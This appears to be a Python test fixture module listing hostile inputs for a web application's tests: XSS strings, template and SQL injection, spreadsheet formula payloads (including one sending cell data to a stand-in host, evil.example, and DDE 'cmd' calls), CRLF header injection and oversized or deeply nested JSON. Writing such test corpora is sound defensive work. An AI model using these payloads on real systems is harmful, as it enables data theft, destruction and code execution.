"""The corpus of hostile inputs. Tests apply it to every text input, query parameter and JSON body.

Plain data and small builders only: what an attacker (or a careless integration) sends, and
what each must never do to us.
"""

import json

SCRIPT = "<script>alert(1)</script>"
SVG = '<svg/onload=alert(1)><svg><script href="data:,alert(1)"/></svg>'
ATTRIBUTE_BREAKER = '"><img src=x onerror=alert(1)>'
SINGLE_QUOTE_BREAKER = "'><a href='javascript:alert(1)'>x</a>"
TEMPLATE_INJECTION = "{{ settings.SECRET_KEY }}{% debug %}${7*7}"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]
SQL = ["' OR '1'='1' --", "1; DROP TABLE feedback_answer; --", "\\'; SELECT pg_sleep(0); --"]
CRLF = "Name\r\nBcc: x@evil.example"
NUL = "bad\x00byte"
LONE_SURROGATE = "\ud800"
CONTROL = "bell\x07 escape\x1b[31m red"
BIDI = "\u202egnp.exe"
LONG = "x" * 100_000

# Strings that can travel in a form field, a query parameter or JSON alike.
TEXTS = [
    SCRIPT,
    SVG,
    ATTRIBUTE_BREAKER,
    SINGLE_QUOTE_BREAKER,
    TEMPLATE_INJECTION,
    *FORMULAS,
    *SQL,
    CRLF,
    NUL,
    CONTROL,
    BIDI,
    LONG,
]
# One of each kind, for places tried many times over (every filter of every admin list).
SAMPLE = [SCRIPT, ATTRIBUTE_BREAKER, FORMULAS[0], SQL[0], CRLF, NUL, CONTROL, "x" * 3000]
# Only JSON can carry a lone surrogate (as an escape); form bodies are UTF-8 and cannot.
JSON_TEXTS = [*TEXTS, LONE_SURROGATE]

# What a person could type where a score belongs, and what a JSON client could send.
WRONG_SCORE_STRINGS = ["nine", "9.5", "1e400", "NaN", "-0x1", "٩", "99999999999999999999999999999999", "9 9"]
WRONG_JSON_NUMBERS: list[object] = [
    "nine",
    "9.5",
    9.5,
    10**30,
    -(10**30),
    1e308,
    [9],
    {"score": 9},
    None,
    True,
    "",
]

# Whole bodies.
TEN_MB = 10 * 2**20
DEPTH = 100_000


def deeply_nested_json(depth: int = DEPTH) -> str:
    return "[" * depth + "]" * depth


def deeply_nested_object(depth: int = DEPTH) -> str:
    return '{"a":' * depth + "1" + "}" * depth


def json_with(field: str, value: object) -> str:
    """A JSON object of one field; lone surrogates survive as escapes because ensure_ascii is on."""
    return json.dumps({field: value})


RAW_JSON_BODIES: dict[str, bytes] = {
    "not JSON": b"{not json",
    "NaN": b'{"x": NaN}',
    "Infinity": b'{"x": Infinity}',
    "a list": b"[1, 2, 3]",
    "a string": b'"just text"',
    "null": b"null",
    "nested arrays": deeply_nested_json().encode(),
    "nested objects": deeply_nested_object().encode(),
    "NUL escape": b'{"x": "\\u0000"}',
    "lone surrogate": b'{"x": "\\ud800"}',
    "invalid UTF-8": b'{"x": "\xff\xfe"}',
    "10 MB": b'{"x": "' + b"x" * TEN_MB + b'"}',
}

# What would become live markup if a value reached a page unescaped.
MARKUP = ["<script>alert", "<svg/onload", "<script href", "<img src=x", "<a href='javascript"]


def assert_escaped(body: str, value: str) -> None:
    """None of the value's markup reaches the body as markup (its escaped form may)."""
    for marker in MARKUP:
        if marker in value:
            assert marker not in body, f"{marker!r} of {value[:60]!r} reached the page unescaped"
